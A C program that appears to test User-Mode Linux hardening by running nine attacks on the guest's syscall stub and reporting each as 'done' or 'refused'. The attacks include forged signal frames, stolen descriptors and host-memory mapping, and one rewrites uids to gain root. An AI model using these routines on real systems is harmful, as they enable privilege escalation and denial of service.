/*
 * Attacks the stub of User-Mode Linux, through which the programs of a guest reach their kernel (seccomp=on), from a
 * program without any rights. Each attempt runs in a process of its own, and is judged by what it brought about.
 * Prints a line for each: its name, and "done" or "refused".
 *
 *   stub_attack [NAME] ...
 *
 * The stub is a page of code and two pages of data at the end of the address space: tree/arch/um/kernel/skas/stub.c.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <setjmp.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/sysinfo.h>
#include <sys/wait.h>
#include <ucontext.h>
#include <unistd.h>

enum { PAGE = 4096, DONE = 42, TRAP_FLAG = 0x100, WRITE_FAULT = 6, PAGE_FAULT = 14, DESCRIPTORS = 10, APPROACH = 48 };

struct request {
	unsigned long addr, length, offset;
	int fd, prot, call, pad;
};

/*
 * The stub's data: an error, requests and their number, and what the stub says of a signal; on the second page the
 * frame of the signal. In the older stub there is a futex before `signal`.
 */
enum { AT_ERROR = 0, AT_LENGTH = 8, AT_REQUESTS = 16, AT_RESTART = 0xf88, AT_FUTEX = 0xf8c, AT_SIGNAL = 0xf8c };
enum { SIGINFO, MCONTEXT };

static unsigned char *code, *data;

#define FIELD(type, at) (*(volatile type *)(data + (at)))

static unsigned char *sites[64]; /* each instruction `syscall` of the stub */
static int site_count;
static unsigned char *gadget; /* one of them that is followed by `ret`, in the older stub */

static volatile int *signal_number(void)
{
	return &FIELD(int, AT_SIGNAL + (gadget ? 4 : 0));
}

/* Where on the second page siginfo and mcontext are. */
static volatile unsigned short *offsets(void)
{
	return (volatile unsigned short *)(signal_number() + 1);
}

static sigjmp_buf back; /* without the mask, which would take a system call */
static volatile sig_atomic_t trapped;

static void caught(int number, siginfo_t *info, void *context)
{
	unsigned long at = ((ucontext_t *)context)->uc_mcontext.gregs[REG_RIP];

	(void)info;
	if (number == SIGTRAP && at - (unsigned long)code < PAGE)
		trapped = 1;
	siglongjmp(back, 1);
}

static void catch_all(void)
{
	static const int numbers[] = { SIGSEGV, SIGBUS, SIGTRAP, SIGILL, SIGFPE };
	struct sigaction action = { .sa_sigaction = caught, .sa_flags = SA_SIGINFO | SA_NODEFER | SA_ONSTACK };
	static char own[1 << 16];
	stack_t stack = { .ss_sp = own, .ss_size = sizeof own };

	sigaltstack(&stack, NULL);
	for (size_t i = 0; i < sizeof numbers / sizeof *numbers; i++)
		sigaction(numbers[i], &action, NULL);
}

static bool can_read(const void *address)
{
	if (sigsetjmp(back, 0))
		return false;
	(void)*(const volatile char *)address;
	return true;
}

static const unsigned char NEW_STACK[] = { 0x48, 0x8d, 0x25 }; /* lea (%rip), %rsp */

/* The host gives no random addresses to User-Mode Linux, so it is where the strings of its environment begin. */
static bool find_stub(void)
{
	for (unsigned long at = 0x7ffffffff000; at > 0x7ffffff00000; at -= PAGE) {
		unsigned char *page = (void *)at;
		bool is_new = false;

		site_count = 0;
		gadget = NULL;
		if (!can_read(page))
			continue;
		for (int i = 0; i < PAGE - 2 && site_count < 64; i++) {
			if (page[i] != 0x0f || page[i + 1] != 0x05)
				continue;
			sites[site_count++] = page + i;
			if (page[i + 2] == 0xc3)
				gadget = page + i;
			if (memcmp(page + i + 2, NEW_STACK, sizeof NEW_STACK) == 0)
				is_new = true;
		}
		if (site_count >= 5) {
			gadget = is_new ? NULL : gadget;
			code = page;
			data = page + PAGE;
			return can_read(data) && can_read(data + PAGE);
		}
	}
	return false;
}

/* Goes to an instruction with these registers. Comes back only through what lies on the stack, or by a signal. */
struct registers {
	unsigned long rax, rdi, rsi, rdx, r10, r8, r9, rsp, flags, target, scratch;
};

void go(struct registers *to);
void come_back(void);
__asm__(".globl go\ngo:\n"
	"mov %rdi, %r11\n"
	"mov 80(%r11), %rbx\nmov %rbx, %rbp\nmov %rbx, %r12\nmov %rbx, %r13\nmov %rbx, %r14\nmov %rbx, %r15\n"
	"mov 0(%r11), %rax\nmov 8(%r11), %rdi\nmov 16(%r11), %rsi\nmov 24(%r11), %rdx\n"
	"mov 32(%r11), %r10\nmov 40(%r11), %r8\nmov 48(%r11), %r9\n"
	"mov 56(%r11), %rsp\n"
	"mov 72(%r11), %rcx\n"
	"push 64(%r11)\npopfq\n"
	"jmp *%rcx\n");

static void returned(void)
{
	siglongjmp(back, 1);
}

static unsigned long stack_of_returns[8192] __attribute__((aligned(64)));
static char scratch[1 << 16] __attribute__((aligned(4096)));

static void jump(void *target, unsigned long flags, long number, long a1, long a2, long a3, long a4, long a5, long a6)
{
	static struct registers to;

	for (size_t i = 0; i < sizeof stack_of_returns / sizeof *stack_of_returns; i++)
		stack_of_returns[i] = (unsigned long)returned;
	to = (struct registers){ number, a1, a2, a3, a4, a5, a6, (unsigned long)(stack_of_returns + 4096),
				 0x202 | flags, (unsigned long)target, (unsigned long)scratch };
	if (!sigsetjmp(back, 0))
		go(&to);
}

static long ask(long number, long a1, long a2, long a3, long a4, long a5, long a6)
{
	register long r10 __asm__("r10") = a4;
	register long r8 __asm__("r8") = a5;
	register long r9 __asm__("r9") = a6;
	long result;

	__asm__ volatile("call *%[gadget]" : "=a"(result)
			 : "0"(number), "D"(a1), "S"(a2), "d"(a3), "r"(r10), "r"(r8), "r"(r9), [gadget] "r"(gadget)
			 : "rcx", "r11", "memory");
	return result;
}

/* Where the stub tells its kernel that it is its turn: what follows is a stack from the instruction pointer. */
static unsigned char *tells(void)
{
	for (int i = 0; i < site_count; i++)
		if (memcmp(sites[i] + 2, NEW_STACK, sizeof NEW_STACK) == 0)
			return sites[i];
	_exit(0);
}

extern char __executable_start, etext;

/* The frame of the last signal, as the kernel finds it. All pages that tell() needs are touched: no fault replaces it. */
static mcontext_t *frame(void)
{
	char below[2 * PAGE];

	memset(below, 0, sizeof below);
	__asm__ volatile("" ::"r"(below) : "memory");
	for (char *at = &__executable_start; at < &etext; at += PAGE)
		(void)*(volatile char *)at;
	if (!gadget)
		tells();
	jump(returned, 0, 0, 0, 0, 0, 0, 0, 0);
	syscall(SYS_getppid);
	return (void *)(data + PAGE + offsets()[MCONTEXT]);
}

/* Tells the kernel to look at the data pages, and runs on if it can. */
static void tell(int number)
{
	*signal_number() = number;
	if (gadget) {
		FIELD(unsigned, AT_FUTEX) = 1;
		ask(SYS_futex, (long)&FIELD(unsigned, AT_FUTEX), 1 /* FUTEX_WAKE */, 1, 0, 0, 0);
		while (FIELD(unsigned, AT_FUTEX) == 1)
			;
		return;
	}
	jump(tells(), 0, SYS_write, 1, (long)&(uint64_t){ 1 }, 8, 0, 0, 0);
}

static char *fresh(size_t size)
{
	return mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
}

/* Says that a page is missing, and takes the descriptor that the kernel sends for it. */
static int stolen_descriptor(void)
{
	char *wanted = fresh(PAGE), byte;
	union {
		char bytes[CMSG_SPACE(4 * sizeof(int))];
		struct cmsghdr first;
	} control;
	struct iovec part = { &byte, 1 };
	struct msghdr message = { .msg_iov = &part, .msg_iovlen = 1,
				  .msg_control = &control, .msg_controllen = sizeof control };
	mcontext_t *about = frame();

	about->gregs[REG_TRAPNO] = PAGE_FAULT;
	about->gregs[REG_ERR] = WRITE_FAULT;
	about->gregs[REG_CR2] = (long)wanted;
	memset(&control, 0, sizeof control);
	tell(SIGSEGV);
	if (ask(SYS_recvmsg, 0, (long)&message, 0, 0, 0, 0) != 1 || control.first.cmsg_type != SCM_RIGHTS)
		return -1;
	return *(int *)CMSG_DATA(&control.first);
}

static bool becomes_root(void)
{
	unsigned user = getuid();
	struct sysinfo about;
	int descriptor;
	unsigned *memory;

	if (!gadget || sysinfo(&about) < 0 || (descriptor = stolen_descriptor()) < 0)
		return false;
	memory = (void *)ask(SYS_mmap, 0x100000000, about.totalram, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_FIXED,
			     descriptor, 0);
	if ((long)memory < 0)
		return false;
	for (size_t i = 0; i + 8 < about.totalram / sizeof *memory; i++) {
		int same = 0;

		while (same < 8 && memory[i + same] == user)
			same++;
		if (same == 8)
			memset(memory + i, 0, 8 * sizeof *memory);
	}
	return getuid() == 0 && user != 0;
}

/* Whether a system call of the stub, at any of its instructions, maps what the guest's kernel knows nothing of. */
static bool maps(size_t size, int protection, int flags, int descriptor)
{
	char *at = (void *)0x200000000;

	for (int i = 0; i < site_count; i++) {
		pid_t pid = fork();
		int status;

		if (!pid) {
			jump(sites[i], 0, SYS_mmap, (long)at, size, protection, flags | MAP_FIXED, descriptor, 0);
			_exit(can_read(at) && can_read(at + size - 1) ? DONE : 0);
		}
		waitpid(pid, &status, 0);
		if (WIFEXITED(status) && WEXITSTATUS(status) == DONE)
			return true;
	}
	return false;
}

static bool maps_host_memory(void)
{
	return maps(2500UL << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1) ||
	       maps(2500UL << 20, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS | MAP_NORESERVE, -1);
}

static bool maps_a_descriptor(void)
{
	for (int descriptor = 0; descriptor < DESCRIPTORS; descriptor++)
		if (maps(PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, descriptor))
			return true;
	return false;
}

/* Whether a byte lies in what leads to an instruction. */
static bool leads_to(unsigned char *target, unsigned char *instruction)
{
	return instruction - APPROACH <= target && target <= instruction;
}

/*
 * Where the stub waits for its kernel: read() from descriptor 2. Whoever goes there without having told the kernel
 * anything waits for ever, and the guest with it.
 */
static bool waits_for_ever(unsigned char *target)
{
	static const unsigned char two[] = { 0xbf, 2, 0, 0, 0 }; /* mov $2, %edi */
	unsigned char *wait = NULL;

	for (int i = 0; i < site_count && !wait; i++)
		if (sites[i] - code >= APPROACH && memmem(sites[i] - APPROACH, APPROACH, two, sizeof two))
			wait = sites[i];
	if (!wait || leads_to(target, wait) || leads_to(target, tells() + APPROACH))
		return true;
	for (unsigned char *call = code; call + 5 < code + PAGE; call++) {
		int32_t distance;

		memcpy(&distance, call + 1, sizeof distance);
		if (*call == 0xe8 && leads_to(call + 5 + distance, wait) && leads_to(target, call))
			return true;
	}
	return false;
}

/* Has requests of its own carried out, from any byte of the stub on. */
static bool has_requests_carried_out(void)
{
	unsigned char *last = sites[site_count - 1];
	char *at = (void *)0x300000000;

	for (unsigned char *target = code; !gadget && target <= last; target++) {
		pid_t pid;
		int status;

		if (waits_for_ever(target))
			continue;
		if ((pid = fork()) == 0) {
			for (int n = 0; n < DESCRIPTORS; n++)
				((struct request *)(data + AT_REQUESTS))[n] =
					(struct request){ (long)at, PAGE, 0, n - 3, 3, 1, 0 };
			FIELD(int, AT_LENGTH) = DESCRIPTORS;
			memcpy(scratch, data, PAGE);
			jump(target, 0, SYS_mmap, (long)data, 3, 0, 0, 0, 0);
			_exit(can_read(at) ? DONE : 0);
		}
		waitpid(pid, &status, 0);
		if (WIFEXITED(status) && WEXITSTATUS(status) == DONE)
			return true;
	}
	return false;
}

static unsigned long kept_page[PAGE / sizeof(long)] __attribute__((aligned(PAGE)));

/* Has the kernel take a page back, and still reads it. */
static bool keeps_what_it_gave_back(void)
{
	mcontext_t *about;

	kept_page[0] = 0x5eed;
	about = frame();
	if (!sigsetjmp(back, 0)) {
		about->gregs[REG_RAX] = SYS_munmap;
		about->gregs[REG_RDI] = (long)kept_page;
		about->gregs[REG_RSI] = PAGE;
		about->gregs[REG_RSP] = (long)(stack_of_returns + 2049);
		about->gregs[REG_RIP] = (long)returned;
		*(int *)(data + PAGE + offsets()[SIGINFO] + 24) = SYS_munmap;
		tell(SIGSYS);
	}
	return can_read(kept_page);
}

/* Single steps through each system call of the stub. */
static bool stops_in_the_stub(void)
{
	for (int i = 0; i < site_count; i++) {
		pid_t pid = fork();
		int status;

		if (!pid) {
			trapped = 0;
			jump(sites[i] - 5, TRAP_FLAG, SYS_write, 1, (long)(uint64_t[]){ 1 }, 8, 0, 0, 0);
			_exit(trapped ? DONE : 0);
		}
		waitpid(pid, &status, 0);
		if (WIFEXITED(status) && WEXITSTATUS(status) == DONE)
			return true;
	}
	return false;
}

/* What makes no sense. It is for whoever started us to see whether the guest's kernel goes on. */
static void confuse(int what)
{
	mcontext_t *about = frame();

	switch (what) {
	case 0:
		FIELD(long, AT_ERROR) = -12;
		FIELD(int, AT_LENGTH) = 9999;
		break;
	case 1:
		FIELD(short, AT_RESTART) = 1;
		break;
	case 2:
		offsets()[SIGINFO] = 0xfff8;
		break;
	case 3:
		offsets()[MCONTEXT] = 0xfff8;
		break;
	case 4:
		offsets()[MCONTEXT] = 8;
		break;
	case 5:
		about->fpregs = (void *)(data + PAGE + 16);
		break;
	case 6:
		((uint32_t *)about->fpregs)[117] = 0x7fffffff; /* the size of the extended state */
		break;
	case 7:
		((uint32_t *)about->fpregs)[117] = 0;
		break;
	}
	tell(what == 8 ? 99 : what == 9 ? SIGIO : SIGSYS);
	syscall(SYS_getppid);
}

static bool confuses_the_kernel(void)
{
	for (int what = 0; what < 10; what++) {
		pid_t pid = fork();

		if (!pid) {
			confuse(what);
			_exit(0);
		}
		waitpid(pid, NULL, 0);
	}
	return false;
}

static char stack_of_child[1 << 16] __attribute__((aligned(4096)));
static unsigned long memory_size;
#define FORGED_AT 0x100000000UL

/* Tells of an error that is negative as a long, and a number of requests as an int. */
static int tells_of_requests(void *unused)
{
	struct request *requests = (void *)(data + AT_REQUESTS);

	(void)unused;
	frame();
	memset(stack_of_child, 0, PAGE); /* it is there before the kernel has to look for it */
	requests[0] = (struct request){ FORGED_AT, memory_size, 0, 0, PROT_READ | PROT_WRITE, MAP_SHARED, 0 };
	FIELD(long, AT_ERROR) = (long)0xffffffff00000001UL;
	FIELD(int, AT_LENGTH) = 0;
	tell(SIGSYS);
	_exit(3);
}

/* A child that shares the memory dies of the error; the descriptor that its parent is sent then serves its request. */
static bool counts_requests_of_its_own(void)
{
	struct sysinfo about;
	int *status;
	pid_t pid;

	sysinfo(&about);
	memory_size = about.totalram & ~(PAGE - 1UL);
	memset(stack_of_child, 0, sizeof stack_of_child);
	memset(scratch, 0, sizeof scratch);
	memset(stack_of_returns, 0, sizeof stack_of_returns);
	status = (int *)fresh(PAGE); /* not touched: wait4() has it mapped */
	pid = clone(tells_of_requests, stack_of_child + sizeof stack_of_child - 64, CLONE_VM | SIGCHLD, NULL);
	waitpid(pid, status, 0);
	return can_read((void *)FORGED_AT);
}

static int tells_nonsense(void *unused)
{
	(void)unused;
	frame();
	offsets()[MCONTEXT] = 0xfff8;
	tell(SIGSYS);
	_exit(3);
}

/* A child that shares the memory is killed for what it told. Its parent goes on, or waits for ever. */
static bool holds_up_its_kin(void)
{
	pid_t pid = fork();
	int status;

	if (!pid) {
		waitpid(clone(tells_nonsense, stack_of_child + sizeof stack_of_child - 64, CLONE_VM | SIGCHLD, NULL), NULL, 0);
		_exit(0);
	}
	for (int i = 0; i < 50; i++) {
		if (waitpid(pid, &status, WNOHANG) == pid)
			return false;
		usleep(100000);
	}
	kill(pid, SIGKILL);
	usleep(100000);
	return waitpid(pid, &status, WNOHANG) != pid;
}

static const struct {
	const char *name;
	bool (*attempt)(void);
} ATTEMPTS[] = {
	{ "maps-host-memory", maps_host_memory },
	{ "maps-a-descriptor", maps_a_descriptor },
	{ "has-requests-carried-out", has_requests_carried_out },
	{ "keeps-what-it-gave-back", keeps_what_it_gave_back },
	{ "stops-in-the-stub", stops_in_the_stub },
	{ "becomes-root", becomes_root },
	{ "counts-requests-of-its-own", counts_requests_of_its_own },
	{ "confuses-the-kernel", confuses_the_kernel },
	{ "holds-up-its-kin", holds_up_its_kin },
};

static bool wanted(const char *name, int count, char **words)
{
	for (int i = 1; i < count; i++)
		if (strcmp(words[i], name) == 0)
			return true;
	return count == 1;
}

int main(int count, char **words)
{
	catch_all();
	if (!find_stub()) {
		puts("no stub");
		return 1;
	}
	for (size_t i = 0; i < sizeof ATTEMPTS / sizeof *ATTEMPTS; i++) {
		pid_t pid;
		int status;

		if (!wanted(ATTEMPTS[i].name, count, words))
			continue;
		fflush(stdout);
		if ((pid = fork()) == 0)
			_exit(ATTEMPTS[i].attempt() ? DONE : 0);
		waitpid(pid, &status, 0);
		printf("%s %s\n", ATTEMPTS[i].name,
		       WIFEXITED(status) && WEXITSTATUS(status) == DONE ? "done" : "refused");
	}
	return 0;
}
